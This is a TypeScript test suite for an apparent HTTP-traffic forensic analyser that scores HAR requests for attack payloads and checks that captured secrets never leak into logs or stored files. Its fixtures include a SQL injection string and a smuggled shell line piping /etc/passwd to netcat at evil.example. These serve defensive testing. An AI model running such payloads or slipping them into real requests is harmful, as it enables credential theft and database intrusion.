import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { payloadClasses } from "../../shared/payload.ts";
import { defaultSettings } from "../../shared/settings.ts";
import { type VerdictFilter, verdictKinds } from "../../shared/verdict.ts";
import {
  analysed,
  analyst,
  bring,
  changeSettings,
  entryOf,
  finished,
  harOf,
  never,
  openTestEngine,
  packageOf,
  type TestEngine,
  verdictsOf,
} from "./test-engine.ts";

let t: TestEngine;
beforeAll(async () => {
  t = await openTestEngine();
}, 60_000);
afterAll(async () => {
  await t?.close();
});

const injection = "1' UNION SELECT name, password FROM users -- ";
const search = (q: string) => `https://shop.example/search?q=${encodeURIComponent(q)}`;

/** A short visit; `attack` goes into its second request. `day` sets visits of different tests apart. */
function visit(day: number, attack: string | null, cookie = `visit=d${day}`): Record<string, unknown>[] {
  const at = day * 86_400;
  const asked = ["green tea", attack ?? "black tea", "tea pots", "white tea"];
  return asked.map((q, i) => entryOf(search(q), { at: at + i * 20, cookie }));
}

describe("secrets", () => {
  const jwt = (name: string) =>
    `eyJhbGciOiJIUzI1NiJ9.${Buffer.from(`{"sub":"${name}"}`).toString("base64url")}.c2lnbmF0dXJl`;
  /** Each by the place that it stands in. */
  const secrets = {
    bearer: "ZmFrZS1iZWFyZXItdG9rZW4",
    basic: Buffer.from("clara:basic-hunter2").toString("base64"),
    cookie: "cookie-5f9e1c77aa",
    password: "hunter2-Correct-Horse",
    queryToken: "query-token-99ab12",
    pathToken: jwt("path"),
    nameToken: jwt("name"),
    attackToken: jwt("attack"),
    bodyKey: "json-key-77aa66bb",
    card: "4111 1111 1111 1111",
    userInfo: "url-password-1234",
    setCookie: "set-cookie-8d2f44",
    responseToken: "response-token-31c2",
    rawPassword: "raw-password-zz91",
  };
  const { bearer, basic, cookie, password, queryToken, pathToken, nameToken, attackToken, bodyKey, card } = secrets;
  const common = { cookie: `visit=${cookie}` };
  const entries = [
    entryOf(`https://clara:${secrets.userInfo}@shop.example/account?token=${queryToken}`, {
      ...common,
      headers: [["Authorization", `Bearer ${bearer}`]],
      response: {
        status: 200,
        headers: [
          { name: "Content-Type", value: "application/json" },
          { name: "Set-Cookie", value: `visit=${secrets.setCookie}; HttpOnly` },
        ],
        content: {
          mimeType: "application/json",
          text: `{"access_token": "${secrets.responseToken}", "name": "Clara"}`,
        },
      },
    }),
    entryOf("https://shop.example/login", { ...common, at: 5, form: `user=clara&password=${password}` }),
    entryOf(`https://shop.example/reset/${pathToken}?${nameToken}=1`, {
      ...common,
      at: 9,
      headers: [["Proxy-Authorization", `Basic ${basic}`]],
    }),
    entryOf(search(`${injection}${attackToken}`), { ...common, at: 14 }),
    entryOf("https://shop.example/comments", { ...common, at: 20, form: `text=my+card+${card.replaceAll(" ", "+")}` }),
    {
      ...entryOf("https://shop.example/api", { ...common, at: 26, form: "" }),
      request: {
        ...(entryOf("https://shop.example/api", common).request as object),
        method: "POST",
        postData: { mimeType: "application/json", text: `{"api_key": "${bodyKey}", "q": "tea"}` },
      },
    },
    {
      ...entryOf("https://shop.example/raw", { ...common, at: 31, form: "" }),
      request: {
        ...(entryOf("https://shop.example/raw", common).request as object),
        method: "POST",
        postData: {
          mimeType: "text/plain",
          text: `password=${secrets.rawPassword}\n; cat /etc/passwd | nc evil.example 99\n${injection}`,
        },
      },
    },
  ];

  test("stand in the encrypted evidence only: in no table, log, list or answer", async () => {
    const { evidence } = await analysed(t, harOf(entries), "visit.har");
    expect(evidence).toMatchObject({ status: "analysed", requests: entries.length, problem_count: 0 });
    const answers: unknown[] = [
      evidence,
      await t.engine.audit.log({ after: 0, limit: 500 }),
      await t.engine.jobs.list(),
    ];
    const revealed: string[] = [];
    for (const { id } of await verdictsOf(t, evidence.id)) {
      const { items } = await t.engine.verdicts.requests({ id, limit: 500, offset: 0 });
      answers.push(await t.engine.verdicts.get({ id }), items);
      for (const { request } of items) {
        answers.push(await t.engine.verdicts.request({ id, request }));
        const { segments } = await t.engine.verdicts.reveal({ id, request, reason: "a test" }, analyst);
        revealed.push(segments.map(({ text }) => text).join(""));
      }
    }
    // The control: they are in the evidence, and a reveal shows what was sent (not what was answered).
    const shown = revealed.join("\n").replaceAll("+", " ");
    const sent = Object.entries(secrets).filter(([name]) => !/^(?:userInfo|setCookie|responseToken)$/.test(name));
    expect(sent.filter(([, secret]) => !shown.includes(secret))).toEqual([]);

    const places = new Map<string, string>([
      ["answers", JSON.stringify(answers)],
      ["log", t.log()],
    ]);
    for (const file of readdirSync(t.home, { recursive: true, encoding: "utf8" })) {
      const path = join(t.home, file);
      if (statSync(path).isFile()) places.set(file, readFileSync(path, "latin1"));
    }
    expect([...places.keys()]).toEqual(expect.arrayContaining(["sentinel.db", "sentinel.db-wal", "audit.jsonl"]));
    const leaks = [...places].flatMap(([place, content]) =>
      Object.entries({ ...secrets, formCard: card.replaceAll(" ", "+") })
        .filter(([, secret]) => content.includes(secret))
        .map(([name]) => `${name} in ${place}`),
    );
    expect(leaks).toEqual([]);
  }, 60_000);
});

describe("settings", () => {
  test("change later verdicts; the same file comes to new ones, and back again by undo", async () => {
    const file = harOf(visit(2, injection));
    const [first] = await verdictsOf(t, (await analysed(t, file, "settings.har")).evidence.id);
    await changeSettings(t, { simulate_threshold: 1, tag_threshold: 1 });
    const { evidence, job } = await analysed(t, file, "settings.har");
    expect(job.result).toMatchObject({ flagged: 0 });
    const [strict] = await verdictsOf(t, evidence.id);
    expect([strict!.verdict, strict!.score, strict!.id === first!.id]).toEqual(["benign", first!.score, false]);

    const weight = await changeSettings(t, { payload_weight: 1 });
    const [weighed] = await verdictsOf(t, (await analysed(t, file, "settings.har")).evidence.id);
    expect(weighed!.score).toBe(weighed!.payload_score);
    expect(await t.engine.reproduceVerdict(weighed!.id)).toMatchObject({ same: true });

    await t.engine.audit.undo({ id: weight }, analyst);
    const [unweighed] = await verdictsOf(t, (await analysed(t, file, "settings.har")).evidence.id);
    expect([unweighed!.id, unweighed!.score]).toEqual([strict!.id, strict!.score]);

    // A gap shorter than the pauses of the visit: each request is a session of its own.
    await changeSettings(t, { session_gap_minutes: 1 });
    const slow = harOf(
      visit(3, null).map((entry, i) => ({ ...entry, startedDateTime: `2026-02-01T08:0${i * 2}:00.000Z` })),
    );
    const many = await analysed(t, slow, "slow.har");
    expect(many.evidence.sessions).toBe(4);

    const { simulate_threshold, tag_threshold, session_gap_minutes } = defaultSettings;
    await changeSettings(t, { simulate_threshold, tag_threshold, session_gap_minutes });
    const again = await verdictsOf(t, (await analysed(t, file, "settings.har")).evidence.id);
    expect(again.map(({ id, score }) => [id, score])).toEqual([[first!.id, first!.score]]);
    const together = await analysed(t, slow, "slow.har");
    expect(together.evidence.sessions).toBe(1);
    const known = await analysed(t, file, "settings.har");
    expect(known.job.result).toEqual({ evidence_id: evidence.id });
  }, 60_000);
});

describe("overlap and withdrawal", () => {
  test("requests of an earlier file are known; withdrawn evidence is out of lists and counts until undo", async () => {
    const entries = visit(10, injection);
    const earlier = await analysed(t, harOf(entries), "earlier.har");
    const later = await analysed(
      t,
      harOf([...entries.slice(1), entryOf(search("cups"), { at: 10 * 86_400 + 95 })]),
      "later.har",
    );
    expect(earlier.evidence.overlapping).toBe(0);
    expect(later.evidence.overlapping).toBe(3);
    const [verdict] = await verdictsOf(t, later.evidence.id);
    const { items } = await t.engine.verdicts.requests({ id: verdict!.id, limit: 100, offset: 0 });
    expect(items.map(({ overlaps_evidence }) => overlaps_evidence)).toEqual([
      ...Array(3).fill(earlier.evidence.id),
      ...Array(items.length - 3).fill(null),
    ]);

    const everything = async () => ({
      rows: await verdictsOf(t),
      counts: await t.engine.verdicts.counts({ min_score: 0 }),
    });
    const before = await everything();
    const { version, id } = earlier.evidence;
    const { event_id } = await t.engine.evidence.withdraw({ id, base_version: version }, analyst);
    const without = await everything();
    expect(without.rows).toEqual(before.rows.filter(({ evidence_id }) => evidence_id !== id));
    expect(without.counts.total).toBe(before.counts.total - earlier.evidence.sessions);
    expect((await t.engine.evidence.get({ id })).status).toBe("withdrawn");
    await expect(t.engine.evidence.withdraw({ id, base_version: version }, analyst)).rejects.toMatchObject({
      code: "CONFLICT",
    });
    await t.engine.audit.undo({ id: event_id }, analyst);
    expect(await everything()).toEqual(before);
    await expect(t.engine.audit.undo({ id: event_id }, analyst)).rejects.toMatchObject({ code: "CONFLICT" });
  }, 60_000);

  test("a withdrawn file that is imported again is in view again, and the import says so; a program's is not", async () => {
    const file = harOf(visit(12, injection));
    const { evidence } = await analysed(t, file, "again.har");
    const { id, version } = evidence;
    await t.engine.evidence.withdraw({ id, base_version: version }, analyst);
    const again = await analysed(t, file, "again.har");
    expect(again).toMatchObject({
      job: { result: { evidence_id: id, restored: true } },
      evidence: { status: "analysed" },
    });
    expect(await verdictsOf(t, id)).toHaveLength(1);
    const { entries } = await t.engine.audit.log({ after: 0, limit: 500 });
    const { id: eventId, kind } = entries.findLast(({ entity_id }) => entity_id === id)!;
    expect(kind).toBe("evidence.restored");
    await t.engine.audit.undo({ id: eventId }, analyst);
    expect((await t.engine.evidence.get({ id })).status).toBe("withdrawn");

    const given = packageOf({ har: { log: { version: "1.2", entries: visit(13, injection) } } });
    const first = await t.engine.analyze({ evidence: given }, analyst, never);
    const [row] = (await t.engine.evidence.list({ limit: 1 })).items;
    await t.engine.evidence.withdraw({ id: row!.id, base_version: row!.version }, analyst);
    expect(await t.engine.analyze({ evidence: given }, analyst, never)).toEqual(first);
    expect((await t.engine.evidence.get({ id: row!.id })).status).toBe("withdrawn");
    const [newest] = await t.engine.jobs.list();
    expect(newest!.result).toEqual({ evidence_id: row!.id, withdrawn: true });
  }, 60_000);

  test("counts, timeline and rows agree for any filter, also before 1970 and without a clock", async () => {
    const year = (text: string) => visit(30, text === "1969" ? injection : null, `visit=${text}`);
    const old = ["1969", "0001", "9999"].flatMap((text) =>
      year(text).map((entry) => ({
        ...entry,
        startedDateTime: `${text}-12-31T23:59:5${text === "9999" ? 8 : 9}.001Z`,
      })),
    );
    const clockless = visit(31, null, "visit=none").map((entry) => ({ ...entry, startedDateTime: "soon" }));
    await analysed(t, harOf([...old, ...clockless]), "old.har");
    const instants = (await verdictsOf(t)).flatMap(({ started_at }) => started_at ?? []);
    const filters: fc.Arbitrary<VerdictFilter> = fc.record(
      {
        min_score: fc.double({ min: 0, max: 1, noNaN: true }),
        verdict: fc.constantFrom(...verdictKinds),
        class: fc.constantFrom(...payloadClasses),
        after: fc.constantFrom(...instants),
        before: fc.constantFrom(...instants),
        text: fc.constantFrom("shop", "SEARCH", "union", "%", "_", "\\", "'"),
      },
      { requiredKeys: ["min_score"] },
    );
    await fc.assert(
      fc.asyncProperty(filters, fc.integer({ min: 1, max: 5 }), async (filter, limit) => {
        const counts = await t.engine.verdicts.counts(filter);
        const rows = [];
        let cursor: string | null = null;
        do {
          const page = await t.engine.verdicts.list({ ...filter, limit, ...(cursor === null ? {} : { cursor }) });
          rows.push(...page.items);
          cursor = page.next;
        } while (cursor !== null);
        expect(new Set(rows.map(({ id }) => id)).size).toBe(rows.length);
        expect(counts.total).toBe(rows.length);
        for (const kind of verdictKinds) {
          const mine = rows.filter(({ verdict }) => verdict === kind);
          expect(counts.by_verdict[kind]).toBe(mine.length);
          const timed = counts.timeline.reduce((sum, bar) => sum + bar.counts[kind], 0);
          expect(timed).toBe(mine.filter(({ started_at }) => started_at !== null).length);
        }
        for (const name of payloadClasses) {
          expect(counts.by_class[name]).toBe(rows.filter((row) => row.class === name).length);
        }
        for (const { score, started_at } of rows) {
          expect(score).toBeGreaterThanOrEqual(filter.min_score);
          if (filter.after !== undefined) expect(started_at! >= filter.after).toBe(true);
          if (filter.before !== undefined) expect(started_at! < filter.before).toBe(true);
        }
      }),
      { numRuns: 40 * Number(process.env.TORTURE ?? 1) },
    );
  }, 60_000);
});

test("evidence that nobody can read yet does not hold up what comes after it", async () => {
  const jobs = await Promise.all([
    bring(t, harOf(visit(40, injection)), "same name"),
    bring(t, harOf(visit(41, null)), "same name"),
    bring(t, harOf(visit(40, injection)), "same content"),
  ]);
  const [a, b, c] = await Promise.all(jobs.map((id) => finished(t, id)));
  expect([a!.state, b!.state, c!.state]).toEqual(["done", "done", "done"]);
  expect(c!.result!.evidence_id).toBe(a!.result!.evidence_id);
  expect(await verdictsOf(t, String(a!.result!.evidence_id))).toHaveLength(1);
});
